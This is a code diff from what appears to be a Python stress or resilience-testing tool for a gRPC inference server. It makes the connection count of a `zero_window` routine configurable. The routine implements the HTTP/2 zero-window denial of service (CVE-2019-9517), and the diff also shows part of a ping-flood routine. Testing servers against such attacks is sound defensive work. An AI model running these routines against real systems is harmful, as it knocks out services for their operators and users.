@@ -383,16 +383,16 @@ def ping_flood(target: Target, stop: threading.Event, counters: Counter[str]) ->
     _while_open(target, stop, counters, flood)
 
 
-def zero_window(target: Target, stop: threading.Event, counters: Counter[str]) -> None:
+def zero_window(target: Target, stop: threading.Event, counters: Counter[str], connections: int = 4) -> None:
     """CVE-2019-9517: a client whose receive window is 0 (SETTINGS_INITIAL_WINDOW_SIZE) opens valid
-    calls as fast as the server allows and never reads an answer, on four connections."""
+    calls as fast as the server allows and never reads an answer, on `connections` connections."""
     message = grpc_message(infer_message(target.model, target.input_name, target.sample))
     headers = request_headers(target)
     clients: list[H2Client] = []
     try:
         while not stop.is_set():
             clients = [c for c in clients if not c.closed]
-            if len(clients) < 4:
+            if len(clients) < connections:
                 try:
                     clients.append(H2Client(target, {h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0}))
                     counters["connections"] += 1
